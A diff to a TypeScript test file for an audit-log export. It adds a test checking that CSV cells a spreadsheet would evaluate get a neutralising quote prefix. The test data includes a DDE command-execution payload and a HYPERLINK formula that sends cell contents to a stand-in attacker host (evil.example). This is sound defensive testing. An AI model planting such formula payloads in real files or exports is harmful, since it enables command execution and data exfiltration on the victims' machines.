@@ -112,12 +112,15 @@ function parseCsv(text: string): (string | null)[][] {
   return rows;
 }
 
+/** A cell as the export wrote it back into its value: one leading quote, the spreadsheet-safety prefix, removed. */
+const cellValue = (cell: string | null) => (cell?.startsWith("'") ? cell.slice(1) : cell);
+
 /** A CSV row back into the event it was written from (JSON members as JSON, empty as null). */
 function eventFromCsv(header: (string | null)[], row: (string | null)[]): Record<string, unknown> {
   expect(row).toHaveLength(header.length);
   const event: Record<string, unknown> = {};
   header.forEach((name, i) => {
-    const value = row[i];
+    const value = cellValue(row[i]);
     if (name === null) return;
     if (name === 'sequence' || name === 'version') event[name] = Number(value);
     else if (name === 'countryCodes' || name === 'changes') event[name] = JSON.parse(value ?? 'null');
@@ -283,6 +286,47 @@ describe('CSV fidelity', () => {
     const [header, ...rows] = parseCsv((await download('csv')).text);
     const fromCsv = rows.map((row) => eventFromCsv(header, row));
     expect(fromCsv.find((e) => e.sequence === changed.sequence)!.note).toBe('');
+    expect(await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'))).toMatchObject({ code: 0 });
+  });
+
+  it('cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR) get a leading quote and are quoted; the NDJSON keeps them as they are', async () => {
+    const notes = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=already quoted", 'plain, = inside'];
+    const created = dataOf(
+      await api.graphql(
+        `mutation($input: CreateCommitmentInput!) { createCommitment(input: $input) { commitment { id version } } }`,
+        { input: { title: 'Formula target', kind: 'FUNDING', instrument: 'MOU', status: 'ANNOUNCED', parties: [{ countryCode: 'IN', role: 'LEAD' }] } },
+        admin,
+      ),
+    ).createCommitment.commitment;
+    const formulaActor = await authHeader({ sub: '=HYPERLINK("http://evil.example/?"&A1)', role: Role.ADMIN });
+    let version = created.version;
+    for (const [index, note] of notes.entries()) {
+      const input = { commitmentId: created.id, expectedVersion: version, status: index % 2 === 0 ? 'IN_PROGRESS' : 'DELAYED', note };
+      const changed = await api.graphql(`mutation($input: ChangeCommitmentStatusInput!) { changeCommitmentStatus(input: $input) { commitment { version } } }`, { input }, index === 0 ? formulaActor : admin);
+      version = dataOf(changed).changeCommitmentStatus.commitment.version;
+    }
+    const subjectId = fromGlobal(created.id);
+
+    const csv = (await download('csv')).text;
+    const [header, ...rows] = parseCsv(csv);
+    const column = (name: string) => header.indexOf(name);
+    const ours = rows.filter((row) => row[column('subjectId')] === subjectId && row[column('action')] === 'STATUS_CHANGED');
+    expect(ours.map((row) => row[column('note')])).toEqual(notes.map((note) => (/^[-=+@\t\r']/.test(note) ? `'${note}` : note)));
+    expect(ours[0][column('actorSub')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
+    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
+    // No cell anywhere in the file starts like a formula, and every value is quoted.
+    expect(rows.flat().filter((cell) => cell !== null && /^[-=+@\t\r]/.test(cell))).toEqual([]);
+    expect(csv.split('\n')[1]).toMatch(/^"\d+","/);
+
+    const ndjson = (await download('ndjson')).text;
+    const events = ndjsonLines(ndjson).map((line) => JSON.parse(line));
+    const trail = events.filter((e) => e.subjectId === subjectId && e.action === 'STATUS_CHANGED');
+    expect(trail.map((e) => e.note)).toEqual(notes);
+    expect(trail[0].actorSub).toBe('=HYPERLINK("http://evil.example/?"&A1)');
+    expect(await verifyExport(ndjson)).toMatchObject({ code: 0 });
+    // Removing one leading quote gives every value back: the CSV holds the same, verifiable events.
+    const fromCsv = rows.map((row) => eventFromCsv(header, row));
+    expect(fromCsv).toEqual(events);
     expect(await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'))).toMatchObject({ code: 0 });
   });
 });
